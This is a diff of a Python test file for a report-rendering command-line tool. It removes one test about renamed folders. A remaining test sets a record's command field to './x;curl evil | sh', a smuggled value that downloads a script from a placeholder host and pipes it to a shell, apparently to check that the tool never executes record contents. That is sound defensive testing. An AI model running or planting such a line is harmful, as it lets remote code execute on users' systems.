@@ -48,12 +48,6 @@ def test_a_report_s_own_bytes_are_not_in_its_way(report: Report, tmp_path: Path)
     assert run("render", tmp_path / "report", "--output", tmp_path / "other").returncode == 0
 
 
-def test_a_folder_may_be_called_like_a_file(report: Report, tmp_path: Path) -> None:
-    report(few())
-    folder = shutil.move(tmp_path / "report", tmp_path / "probes_of_mine")
-    assert run("render", folder, "--output", tmp_path / "again").returncode == 0
-
-
 def test_what_a_record_says_is_no_command(report: Report) -> None:
     record = few()
     record["environment"]["command"] = "./x;curl evil | sh"
